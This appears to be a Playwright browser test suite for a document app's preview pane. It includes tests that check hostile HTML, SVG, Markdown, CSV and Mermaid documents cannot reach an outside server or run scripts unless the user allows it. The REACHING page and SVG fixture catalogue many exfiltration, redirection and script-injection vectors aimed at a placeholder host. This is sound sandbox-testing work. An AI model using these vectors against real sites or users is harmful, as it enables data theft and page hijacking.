"""What documents look like next to their source, and that hostile ones reach nothing."""

import socket
import threading
from collections.abc import Iterator
from contextlib import closing

import pytest
from playwright.sync_api import Locator, Route, expect

from tests.browser import hostile
from tests.browser.test_documents import new_document, open_document, room, write
from tests.support.page import SignIn
from tests.support.servers import Site

pytestmark = pytest.mark.browser


class Stranger:
    """Another server, on a port of TCP and of UDP. It notes who says anything to it."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            with closing(connection):
                connection.settimeout(1)
                try:
                    self.heard.append(f"TCP {connection.recv(200)!r}")
                except OSError:
                    self.heard.append("TCP")

    def _receive(self) -> None:
        while True:
            try:
                data, _ = self._udp.recvfrom(2000)
            except OSError:
                return
            self.heard.append(f"UDP {data!r}")

    def close(self) -> None:
        for each in (self._tcp, self._udp):
            each.close()


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    yield server
    server.close()


REACHING = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=http://HOST/refresh">
<link rel="preconnect" href="http://HOST"><link rel="stylesheet" href="http://HOST/a.css">
<link rel="icon" href="http://HOST/icon"><link rel="prefetch" href="http://HOST/p"><link rel="manifest" href="http://HOST/m">
<base href="http://HOST/"><style>@import url(http://HOST/b.css); body { background: url(http://HOST/c.png) }</style>
</head><body><h1>Hello</h1>
<img src="http://HOST/d.png" srcset="http://HOST/e.png 2x"><video src="http://HOST/f" poster="http://HOST/g"></video>
<audio src="http://HOST/h"></audio><object data="http://HOST/i"></object><embed src="http://HOST/j">
<iframe src="http://HOST/k"></iframe><script src="http://HOST/l.js"></script><svg><image href="http://HOST/m2"/></svg>
<form action="http://HOST/n" id="form"><input name="x"></form><a href="http://HOST/o" id="link" ping="http://HOST/q">x</a>
<p id="ran">no script ran</p>
<script>
const attempts = [
  () => fetch("http://HOST/1"), () => navigator.sendBeacon("http://HOST/2", "x"), () => new WebSocket("ws://HOST/3"),
  () => new EventSource("http://HOST/4"),
  () => { const r = new XMLHttpRequest(); r.open("GET", "http://HOST/5"); r.send() },
  () => import("http://HOST/6.js"), () => new Worker("http://HOST/7.js"), () => window.open("http://HOST/8"),
  () => document.getElementById("form").submit(), () => document.getElementById("link").click(),
  () => { parent.location = "http://HOST/9" }, () => { top.location = "http://HOST/10" },
  () => { new Image().src = "http://HOST/11" },
  () => { document.head.innerHTML += '<link rel="stylesheet" href="http://HOST/12">' },
  () => { const f = document.createElement("iframe"); f.src = "http://HOST/13"; document.body.append(f) },
  () => { const s = document.createElement("script"); s.src = "http://HOST/14"; document.body.append(s) },
  () => { document.title = parent.parent.document.title }, () => localStorage.setItem("x", "y"),
  () => { document.cookie = "x=y" }, () => parent.parent.hacked(), () => top.hacked(), () => alert(1),
  () => { location.href = "http://HOST/15" },
];
for (const attempt of attempts) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
document.getElementById("ran").textContent = "a script ran";
</script></body></html>"""


def preview(pane: Locator) -> Locator:
    return pane.locator(".document-preview")


def shown_page(pane: Locator) -> Locator:
    """The body of an HTML document in its frame."""
    return pane.frame_locator(".document-page iframe").frame_locator("iframe").locator("body")


def test_markdown_is_drawn_next_to_its_source(parrot: Site, sign_in: SignIn) -> None:
    conversation, (ada,) = room(parrot, sign_in)
    new_document(ada, conversation, "Report", "# One\n")
    pane = open_document(ada, "Report")
    expect(preview(pane).get_by_role("heading", name="One")).to_be_visible()
    write(pane, "\n- first\n")
    expect(preview(pane).get_by_role("listitem")).to_have_text("first")
    pane.get_by_role("button", name="Preview").click()
    expect(pane.locator(".document-source")).to_be_hidden()
    pane.get_by_role("button", name="Source").click()
    expect(preview(pane)).to_be_hidden()


def test_a_table_sorts_by_number_and_by_word(parrot: Site, sign_in: SignIn) -> None:
    conversation, (ada,) = room(parrot, sign_in)
    text = 'city,people,"note, long"\nRome,"2,800,000",b\nOslo,710000,a\nBern,,"say ""c"""\n'
    new_document(ada, conversation, "Cities", text, "csv")
    pane = open_document(ada, "Cities")
    table = preview(pane).get_by_role("table")

    def column(index: int) -> list[str]:
        return table.locator(f"tbody tr td:nth-child({index})").all_inner_texts()

    expect(table.get_by_role("columnheader").nth(2)).to_contain_text("note, long")
    assert column(1) == ["Rome", "Oslo", "Bern"]
    assert column(3) == ["b", "a", 'say "c"']
    people = table.get_by_role("columnheader", name="people")
    people.get_by_role("button").click()
    expect(people).to_have_attribute("aria-sort", "ascending")
    assert column(1) == ["Oslo", "Rome", "Bern"], "what is empty comes last"
    people.get_by_role("button").press("Enter")
    expect(people).to_have_attribute("aria-sort", "descending")
    assert column(1) == ["Rome", "Oslo", "Bern"]
    write(pane, "Lima,10000000,\n")
    expect(table.locator("tbody tr").first).to_contain_text("Lima")


def test_pictures_are_drawn_from_svg_and_mermaid(parrot: Site, sign_in: SignIn) -> None:
    conversation, (ada,) = room(parrot, sign_in)
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="50"><rect width="9" height="5"/></svg>'
    new_document(ada, conversation, "Logo", svg, "svg")
    new_document(ada, conversation, "Flow", "graph TD\n  A --> B\n", "mermaid")
    pane = open_document(ada, "Logo")
    picture = preview(pane).get_by_role("img", name="Logo")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.naturalWidth") == 90
    held: list[Route] = []
    ada.context.route("**/mermaid*.js", lambda route: held.append(route))  # the library is large
    flow = preview(open_document(ada, "Flow"))
    while not held:
        ada.wait_for_timeout(50)
    expect(flow.get_by_text("Drawing…")).to_be_visible()
    held[0].continue_()
    expect(flow.get_by_role("img", name="Flow")).to_be_visible()
    expect(flow.get_by_text("Drawing…")).to_be_hidden()


def test_a_hostile_page_reaches_nothing_and_runs_scripts_only_if_allowed(
    parrot: Site, sign_in: SignIn, stranger: Stranger
) -> None:
    conversation, (ada,) = room(parrot, sign_in)
    ran: list[str] = []
    ada.context.expose_function("hacked", lambda: ran.append("hacked"))
    ada.on("dialog", lambda dialog: ran.append(dialog.message))
    ada.on("popup", lambda popup: ran.append(popup.url))
    title, address = ada.title(), ada.url
    new_document(ada, conversation, "Page", REACHING.replace("HOST", f"127.0.0.1:{stranger.port}"), "html")
    pane = open_document(ada, "Page")
    body = shown_page(pane)
    expect(body.locator("h1")).to_have_text("Hello")
    expect(body.locator("#ran")).to_have_text("no script ran")
    ada.wait_for_timeout(500)  # a request that should not be made tells nobody when it would be
    assert stranger.heard == []

    pane.get_by_role("button", name="Run scripts of this version").click()
    ada.wait_for_timeout(1500)
    assert (stranger.heard, ran, ada.title(), ada.url) == ([], [], title, address)

    # They run in this version only.
    write(pane, "<p>new</p>")
    expect(body.locator("#ran")).to_have_text("no script ran")
    expect(pane.get_by_role("button", name="Run scripts of this version")).to_be_visible()
    assert (stranger.heard, ran) == ([], [])


def test_an_allowed_script_works(parrot: Site, sign_in: SignIn) -> None:
    conversation, (ada,) = room(parrot, sign_in)
    html = (
        '<button onclick="this.textContent = ++n">0</button><script>let n = 0</script><style>button{color:red}</style>'
    )
    new_document(ada, conversation, "Counter", html, "html")
    pane = open_document(ada, "Counter")
    button = shown_page(pane).get_by_role("button")
    expect(button).to_have_css("color", "rgb(255, 0, 0)")
    button.click()
    expect(button).to_have_text("0")
    pane.get_by_role("button", name="Run scripts of this version").click()
    button = shown_page(pane).get_by_role("button")
    button.click()
    expect(button).to_have_text("1")


def test_hostile_pictures_tables_and_texts_reach_nothing(parrot: Site, sign_in: SignIn, stranger: Stranger) -> None:
    conversation, (ada,) = room(parrot, sign_in)
    ran: list[str] = []
    ada.context.expose_function("hacked", lambda *_: ran.append("hacked"))
    host = f"127.0.0.1:{stranger.port}"
    vectors = [each.replace("https://evil.example", f"http://{host}") for each in hostile.VECTORS + hostile.DIAGRAMS]
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="hacked()"><script>hacked()</script>'
        f'<image href="http://{host}/a"/><style>@import url(http://{host}/b)</style><use href="http://{host}/c#x"/>'
        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://{host}/d"/>'
        "</foreignObject></svg>"
    )
    documents = {
        "Text": ("\n\n".join(vectors), "markdown"),
        "Cells": ("a,b\n" + "\n".join(f'"{each.replace(chr(34), chr(34) * 2)}",x' for each in vectors), "csv"),
        "Picture": (svg, "svg"),
        "Graph": (vectors[-9], "mermaid"),
        "Flow": (vectors[-6], "mermaid"),
    }
    for title, (text, kind) in documents.items():
        new_document(ada, conversation, title, text, kind)
    for title in documents:
        pane = open_document(ada, title)
        shown = preview(pane).locator("p, td, img, .blank:not(:text('Drawing…'))").locator("visible=true").first
        expect(shown).to_be_visible()
    ada.wait_for_timeout(500)
    assert (stranger.heard, ran) == ([], [])
